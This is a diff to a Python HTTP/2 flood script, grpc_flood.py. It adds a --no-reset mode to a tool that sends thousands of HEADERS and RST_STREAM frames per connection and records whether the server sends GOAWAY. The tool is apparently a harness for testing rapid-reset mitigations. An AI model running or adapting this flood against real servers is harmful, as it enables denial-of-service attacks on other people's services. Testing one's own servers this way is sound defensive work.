@@ -9,6 +9,7 @@ Prints one JSON line: pairs sent, connections, seconds, goaway (the last GOAWAY'
 null), goaways (connections that got one), closed_by_server (every connection was).
 
 Usage: grpc_flood.py HOST PORT PAIRS [--tls] [--reconnect]
+--no-reset: HEADERS only, every stream left open (the same cost without RST_STREAM).
 --reconnect: connect again each time the server closes the connection, until PAIRS are sent.
 Needs python3-h2 (hpack) for /usr/bin/python3.
 """
@@ -67,7 +68,7 @@ class Reader(threading.Thread):
         self.closed = True
 
 
-def one_connection(host, port, pairs, tls):
+def one_connection(host, port, pairs, tls, reset=True):
     """Floods one connection until `pairs` are sent or the server closes it; (sent, reader)."""
     sock = socket.create_connection((host, port))
     sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
@@ -88,10 +89,11 @@ def one_connection(host, port, pairs, tls):
             chunk = []
             for _ in range(min(500, pairs - sent)):
                 chunk.append(frame(T_HEADERS, END_HEADERS, sid, block))
-                chunk.append(frame(T_RST, 0, sid, struct.pack(">I", CANCEL)))
+                if reset:
+                    chunk.append(frame(T_RST, 0, sid, struct.pack(">I", CANCEL)))
                 sid += 2
             sock.sendall(b"".join(chunk))
-            sent += len(chunk) // 2
+            sent += len(chunk) // (2 if reset else 1)
     except (OSError, ssl.SSLError):
         pass
     reader.join(2.0)
@@ -106,10 +108,11 @@ def main():
     host, port, pairs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
     tls = "--tls" in sys.argv[4:]
     reconnect = "--reconnect" in sys.argv[4:]
+    reset = "--no-reset" not in sys.argv[4:]
     start = time.monotonic()
     total, conns, goaways, all_closed, last = 0, 0, 0, True, None
     while total < pairs and conns < 1000:
-        sent, reader = one_connection(host, port, pairs - total, tls)
+        sent, reader = one_connection(host, port, pairs - total, tls, reset)
         total += sent
         conns += 1
         goaways += reader.goaway is not None
